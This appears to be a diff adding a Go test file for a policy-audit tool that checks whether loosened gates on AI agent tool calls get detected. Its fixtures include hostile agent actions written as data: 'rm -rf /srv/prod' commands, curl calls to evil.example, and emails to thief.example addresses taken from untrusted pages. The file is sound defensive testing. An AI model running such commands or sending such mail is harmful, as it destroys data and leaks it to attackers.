@@ -1,0 +1,191 @@
+package learn
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/gbt-policy/gbt/corpora/contexts"
+	"github.com/gbt-policy/gbt/gates"
+	"github.com/gbt-policy/gbt/gates/lang"
+)
+
+func gate(t *testing.T, scope, disposition, expr string) gates.Gate {
+	t.Helper()
+	canonical, program, err := lang.Compile(expr)
+	if err != nil {
+		t.Fatalf("%s: %v", expr, err)
+	}
+	return gates.Gate{ID: gateID(scope, disposition, canonical), Scope: scope, Disposition: disposition, Expr: canonical, Program: program}
+}
+
+// recordedContexts are contexts of the calls that the gates of auditSide stop.
+func recordedContexts(t *testing.T) []*contexts.Row {
+	t.Helper()
+	var c contexts.Corpus
+	add := func(macro string, ctx gates.Context) {
+		r := contexts.Redact(&ctx)
+		c.Add(contexts.NewRow(contexts.Unsafe, &r, macro, contexts.Evidence{Episode: "e", Task: "t"}))
+	}
+	state := gates.State{Cwd: "/work", Roots: []string{"/work"}, UID: -1, GID: -1}
+	for i := range 8 {
+		x := sources{"untrusted", "get_page", "~"}
+		add("mail", gates.NewContext(gates.Call{Tool: "send_email", Args: fmt.Appendf(nil, `{"recipients":["x%d@thief.example"],"body":"b"}`, i), Sources: x}, state))
+		add("shell", gates.ShellContext(fmt.Sprintf("rm -rf /srv/prod/data%d", i), state))
+		add("shell", gates.ShellContext(fmt.Sprintf("curl https://up%d.evil.example/x", i), state))
+	}
+	return c.Rows(contexts.Unsafe)
+}
+
+type sources struct{ origin, source, form string }
+
+func (s sources) Find(string) (string, string, string) { return s.origin, s.source, s.form }
+
+const (
+	mailExpr  = `!ctx.high || !ctx.args.exists(a, a.origin == "untrusted" && a.form.contains("~") && a.role == "recipient" && !(ctx.tool == "send_email" && a.source in ["get_contacts"]))`
+	prodExpr  = `!ctx.effects.exists(e, e.type == "delete" && e.resource.under("/srv/prod"))`
+	evilExpr  = `!ctx.effects.exists(e, e.type == "network" && e.domain.domainUnder("evil.example"))`
+	localExpr = `!(ctx.family == "shell" && ctx.effects.exists(e, e.type == "network"))`
+)
+
+func auditSide(t *testing.T) Side {
+	s := Side{Gates: []gates.Gate{
+		gate(t, ScopeGlobal, AskFirst, mailExpr), gate(t, ScopeGlobal, Reject, prodExpr), gate(t, ScopeGlobal, Reject, evilExpr),
+		gate(t, ScopeNode, Reject, localExpr),
+	}}
+	s.At = map[string][]string{"shell": {s.Gates[3].ID}}
+	return s
+}
+
+// change returns the side with one gate in another form.
+func change(t *testing.T, i int, scope, disposition, expr string) Side {
+	s := auditSide(t)
+	old := s.Gates[i].ID
+	s.Gates[i] = gate(t, scope, disposition, expr)
+	for macro, ids := range s.At {
+		if k := slices.Index(ids, old); k >= 0 {
+			s.At[macro] = []string{}
+			if scope == ScopeNode {
+				s.At[macro] = []string{s.Gates[i].ID}
+			}
+		}
+	}
+	return s
+}
+
+// TestAuditCatches relaxes a policy in every way there is; each must show.
+func TestAuditCatches(t *testing.T) {
+	rows := recordedContexts(t)
+	without := func(i int) Side {
+		s := auditSide(t)
+		s.Gates = slices.Delete(s.Gates, i, i+1)
+		return s
+	}
+	detached, part := auditSide(t), auditSide(t)
+	detached.At = nil
+	part.At = map[string][]string{"other": part.At["shell"]}
+	replace := func(expr, old, new string) string {
+		if !strings.Contains(expr, old) {
+			t.Fatalf("%q is not in %s", old, expr)
+		}
+		return strings.Replace(expr, old, new, 1)
+	}
+	for name, relaxed := range map[string]Side{
+		"all gates gone":                     {},
+		"flow gate gone":                     without(0),
+		"delete gate gone":                   without(1),
+		"network gate gone":                  without(2),
+		"node gate gone":                     without(3),
+		"node gate detached":                 detached,
+		"node gate moved to another macro":   part,
+		"rejects, now asks":                  change(t, 1, ScopeGlobal, AskFirst, prodExpr),
+		"rejects, now wants a revision":      change(t, 2, ScopeGlobal, "revision_required", evilExpr),
+		"node gate asks":                     change(t, 3, ScopeNode, AskFirst, localExpr),
+		"global, now at nodes":               change(t, 1, ScopeNode, Reject, prodExpr),
+		"a source more in the list":          change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `["get_contacts"]`, `["get_contacts", "get_page"]`)),
+		"an unseen source more in the list":  change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `["get_contacts"]`, `["get_contacts", "get_users"]`)),
+		"allowed in every tool":              change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `ctx.tool == "send_email" && `, ``)),
+		"a condition more to stop":           change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `a.role == "recipient"`, `a.role == "recipient" && ctx.verb == "send"`)),
+		"another role":                       change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `"recipient"`, `"payload"`)),
+		"another form":                       change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `a.form.contains("~")`, `a.form.contains("~+")`)),
+		"an exemption":                       change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.tool == "send_email"`),
+		"a directory deeper":                 change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `"/srv/prod"`, `"/srv/prod/data1"`)),
+		"a sibling directory":                change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `"/srv/prod"`, `"/srv/stage"`)),
+		"the directory itself alone":         change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `e.resource.under("/srv/prod")`, `e.resource == "/srv/prod"`)),
+		"another effect":                     change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `"delete"`, `"write"`)),
+		"a subdomain":                        change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `"evil.example"`, `"up1.evil.example"`)),
+		"the domain itself alone":            change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `e.domain.domainUnder("evil.example")`, `e.domain == "evil.example"`)),
+		"all instead of any":                 change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `exists`, `all`)),
+		"only unencrypted":                   change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `e.type == "network"`, `e.type == "network" && e.scheme == "http"`)),
+		"a family less":                      change(t, 3, ScopeNode, Reject, replace(localExpr, `"shell"`, `"code"`)),
+		"always passes":                      change(t, 1, ScopeGlobal, Reject, `ctx.high || !ctx.high`),
+		"only after something sensitive":     change(t, 1, ScopeGlobal, Reject, prodExpr+` || !ctx.flow.sensitive_read`),
+		"only with a history":                change(t, 2, ScopeGlobal, Reject, evilExpr+` || !ctx.history.exists(h, h.type == "read")`),
+		"a limit on the number of arguments": change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || size(ctx.args) > 2`),
+	} {
+		a, err := RunAudit(auditSide(t), relaxed, rows, AuditOptions{Mutations: 12000, Seed: 7, Workers: 2})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if a.Readmitted == 0 {
+			t.Errorf("%s: not caught (%d of %d proved)", name, a.Proved, a.Gates)
+		}
+		if a.Proved == a.Gates && len(relaxed.Gates) > 0 {
+			t.Errorf("%s: proved, although it is looser", name)
+		}
+	}
+}
+
+// TestAuditPasses changes a policy without loosening it; none may show.
+func TestAuditPasses(t *testing.T) {
+	rows := recordedContexts(t)
+	more := auditSide(t)
+	more.Gates = append(more.Gates, gate(t, ScopeGlobal, Reject, `ctx.tool != "other"`))
+	for name, tight := range map[string]Side{
+		"the same":                auditSide(t),
+		"a gate more":             more,
+		"asks, now rejects":       change(t, 0, ScopeGlobal, Reject, mailExpr),
+		"node gate, now global":   change(t, 3, ScopeGlobal, Reject, localExpr),
+		"a directory higher":      change(t, 1, ScopeGlobal, Reject, strings.Replace(prodExpr, "/srv/prod", "/srv", 1)),
+		"a domain higher":         change(t, 2, ScopeGlobal, Reject, strings.Replace(evilExpr, `"evil.example"`, `"example"`, 1)),
+		"a source less":           change(t, 0, ScopeGlobal, AskFirst, strings.Replace(mailExpr, ` && !(ctx.tool == "send_email" && a.source in ["get_contacts"])`, "", 1)),
+		"a condition less":        change(t, 1, ScopeGlobal, Reject, strings.Replace(prodExpr, `e.type == "delete" && `, "", 1)),
+		"the same in other words": change(t, 2, ScopeGlobal, Reject, `ctx.effects.all(e, !(e.domain.domainUnder("evil.example") && "network" == e.type))`),
+	} {
+		a, err := RunAudit(auditSide(t), tight, rows, AuditOptions{Mutations: 8000, Seed: 3, Workers: 2})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if a.Readmitted != 0 {
+			t.Errorf("%s: %d re-admitted, first %s %v -> %v", name, a.Readmitted, a.Examples[0].Level, a.Examples[0].Old, a.Examples[0].New)
+		}
+		if a.Proved != a.Gates {
+			t.Errorf("%s: %d of %d gates proved", name, a.Proved, a.Gates)
+		}
+		if a.Real != len(rows) || a.Mutated != 8000 {
+			t.Errorf("%s: %d real and %d mutated contexts, want %d and 8000", name, a.Real, a.Mutated, len(rows))
+		}
+	}
+}
+
+func TestAuditWorkers(t *testing.T) {
+	rows := recordedContexts(t)
+	relaxed := change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.verb == "delete"`)
+	var first *Audit
+	for _, workers := range []int{1, 2, 5} {
+		a, err := RunAudit(auditSide(t), relaxed, rows, AuditOptions{Mutations: 20000, Seed: 9, Workers: workers})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if first == nil {
+			first = a
+		}
+		if fmt.Sprint(*a) != fmt.Sprint(*first) {
+			t.Errorf("%d workers: another audit", workers)
+		}
+	}
+	if first.Readmitted == 0 {
+		t.Error("nothing re-admitted: the comparison says nothing")
+	}
+}
